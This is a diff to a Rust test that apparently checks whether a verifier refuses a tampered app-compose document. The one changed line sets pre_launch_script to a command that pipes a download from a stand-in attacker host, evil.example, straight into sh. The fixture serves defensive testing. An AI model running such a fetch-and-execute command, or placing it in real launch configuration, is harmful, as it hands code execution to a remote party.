@@ -199,7 +199,7 @@ fn a_plan_refuses_what_the_document_makes_verify_refuse() {
         IMAGES[0].0, IMAGES[0].1
     );
     let mut members: Value = serde_json::from_str(&simulator::app_compose::app_compose(&pinned)).unwrap();
-    members["pre_launch_script"] = json!("curl http://evil.example | sh");
+    members["pre_launch_script"] = json!("curl https://evil.example | sh");
     members["public_logs"] = json!(true);
     let plan = |members: &Value, more: &[&str]| {
         std::fs::write(&document, members.to_string()).unwrap();
